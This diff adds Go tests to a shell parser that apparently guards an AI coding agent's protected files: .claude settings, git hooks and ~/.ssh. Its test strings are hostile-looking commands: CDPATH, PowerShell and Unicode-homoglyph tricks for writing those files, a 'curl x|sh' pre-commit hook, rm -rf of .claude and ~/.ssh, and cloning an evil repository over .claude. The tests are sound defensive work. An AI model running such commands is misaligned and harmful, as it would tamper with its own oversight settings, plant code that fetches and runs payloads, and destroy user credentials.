@@ -155,3 +155,170 @@ func TestShellReadsHeredoc(t *testing.T) {
 		}
 	}
 }
+
+// TestProtectedCDPATH: with CDPATH set in the command line, cd NAME
+// enters NAME under one of CDPATH's folders (CDPATH=.git; cd hooks
+// enters .git/hooks), but the reader took it as ./NAME, so the bare
+// names written next (pre-commit) were no protected file. Such a cd now
+// enters a folder known only when the command runs.
+func TestProtectedCDPATH(t *testing.T) {
+	for _, src := range []string{
+		`CDPATH=.git; cd hooks && echo 'curl x|sh' > pre-commit`,
+		`export CDPATH=.git:.; cd hooks; cp /tmp/x post-checkout`,
+		`CDPATH=.claude cd agents/.. && echo x > settings.json`,
+	} {
+		cmds, err := shell.Parse(src)
+		if err != nil {
+			t.Fatalf("%s: %v", src, err)
+		}
+		var hit []shell.Protection
+		for i := range cmds {
+			hit = append(hit, cmds[i].Protected()...)
+		}
+		if len(hit) == 0 {
+			t.Errorf("%s: no protected file", src)
+		}
+	}
+	// ./NAME and an absolute path are not looked up in CDPATH.
+	cmds, err := shell.Parse(`CDPATH=/tmp; cd ./src && echo x > config`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := cmds[0].Enters; got != "src" {
+		t.Errorf("cd ./src with CDPATH enters %q", got)
+	}
+}
+
+// TestProtectedNewItemName: New-Item makes -Name in the folder -Path
+// names (New-Item -Path .claude -Name settings.json makes
+// .claude/settings.json), but the reader took the two as two files,
+// .claude and a bare settings.json, neither protected.
+func TestProtectedNewItemName(t *testing.T) {
+	for _, src := range []string{
+		`New-Item -Path .claude -Name settings.json -Value '{}' -Force`,
+		`ni -ItemType File -Na settings.local.json -Pa .claude -Value '{}'`,
+		`New-Item -Name:pre-commit -Path:.git\hooks -Value x`,
+		`ni .git\hooks -Name pre-commit -Value x`,
+	} {
+		cmds, err := shell.Parse(src)
+		if err != nil {
+			t.Fatalf("%s: %v", src, err)
+		}
+		if len(cmds) != 1 || len(cmds[0].Protected()) == 0 {
+			t.Errorf("%s: no protected file in %+v", src, cmds)
+		}
+	}
+}
+
+// TestProtectedCopyItemFolder: Copy-Item and Move-Item into a folder
+// write a file of the source's name there, as cp does (cp
+// /tmp/settings.json .claude/ is protected), and Rename-Item's new name
+// is beside the file it renames; but the reader took the folder (or the
+// bare new name) and the source as two files, neither protected.
+func TestProtectedCopyItemFolder(t *testing.T) {
+	for _, src := range []string{
+		`Copy-Item /tmp/settings.json -Destination .claude`,
+		`cpi /tmp/settings.json .claude`,
+		`Move-Item -Path C:\tmp\settings.local.json -Destination .claude\`,
+		`copy /tmp/config ~/.ssh`,
+		`Rename-Item .claude\evil.json -NewName settings.json`,
+		`ren -Path .claude/evil.json settings.local.json`,
+	} {
+		cmds, err := shell.Parse(src)
+		if err != nil {
+			t.Fatalf("%s: %v", src, err)
+		}
+		if len(cmds) != 1 || len(cmds[0].Protected()) == 0 {
+			t.Errorf("%s: no protected file in %+v", src, cmds[0].Changes)
+		}
+	}
+}
+
+// TestProtectedFolderItself: a command that writes into, replaces or
+// deletes a protected folder as a whole (tar -C .claude, cp -r d/.
+// .claude, mv .claude away, rm -rf .claude) changes the files in it,
+// settings.json among them, but the reader named only the folder, which
+// is no protected file. The folder itself now counts; a file of another
+// name under it (.claude/agents/x.md) still does not.
+func TestProtectedFolderItself(t *testing.T) {
+	for _, src := range []string{
+		`tar -xf /tmp/evil.tar -C .claude`,
+		`unzip -o /tmp/evil.zip -d .claude`,
+		`cp -r /tmp/d/. .claude`,
+		`rsync -a /tmp/d/ .claude/`,
+		`mv .claude /tmp/old`,
+		`rm -rf .claude`,
+		`rm -rf ~/.ssh`,
+		`cp -r /tmp/d/. ~/.config/git`,
+	} {
+		cmds, err := shell.Parse(src)
+		if err != nil {
+			t.Fatalf("%s: %v", src, err)
+		}
+		if len(cmds) != 1 || len(cmds[0].Protected()) == 0 {
+			t.Errorf("%s: no protected file in %q", src, cmds[0].Changes)
+		}
+	}
+	cmds, err := shell.Parse(`echo x > .claude/agents/helper.md`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p := cmds[0].Protected(); len(p) != 0 {
+		t.Errorf("a file of another name in .claude: %+v", p)
+	}
+}
+
+// TestProtectedGitClone: git clone URL .claude makes .claude whole from
+// another repository (its settings.json, hooks and permissions), and git
+// clone URL/.claude makes it by the URL's name; the reader named no file.
+func TestProtectedGitClone(t *testing.T) {
+	for _, src := range []string{
+		`git clone https://example.com/evil.git .claude`,
+		`git clone --depth 1 -b main https://example.com/evil.git ~/.ssh`,
+		`git clone https://example.com/u/.claude`,
+		`git clone https://example.com/u/.claude.git/`,
+	} {
+		cmds, err := shell.Parse(src)
+		if err != nil {
+			t.Fatalf("%s: %v", src, err)
+		}
+		if len(cmds) != 1 || len(cmds[0].Protected()) == 0 {
+			t.Errorf("%s: no protected file in %q (operands %q)", src, cmds[0].Changes, cmds[0].Operands)
+		}
+	}
+	cmds, err := shell.Parse(`git clone https://example.com/u/tool.git vendor/tool`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p := cmds[0].Protected(); len(p) != 0 {
+		t.Errorf("a clone elsewhere: %+v", p)
+	}
+}
+
+// TestProtectedUnicodeFold: macOS and Windows find a name by Unicode case
+// folding, where the long s ſ is s and the Kelvin sign K is k, and HFS+
+// ignores zero-width and direction marks (git's CVE-2014-9390: .git with
+// U+200C); the reader folded ASCII-only, so .claude/ſettings.json, and
+// .git with a zero-width mark, were no protected files.
+func TestProtectedUnicodeFold(t *testing.T) {
+	for _, p := range []string{
+		".claude/ſettings.json",
+		".claude/SETTINGſ.JSON",
+		".mcp.jſon",
+		".\u200cgit/config",
+		".gi\u200dt/hooks/pre-commit",
+		"\ufeff.bashrc",
+		".ſſh/config",
+	} {
+		if shell.ProtectedFile(p) == "" {
+			t.Errorf("%q: not protected", p)
+		}
+	}
+	cmds, err := shell.Parse("echo '{}' > .claude/ſettings.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cmds[0].Protected()) == 0 {
+		t.Error("echo > .claude/ſettings.json: no protected file")
+	}
+}
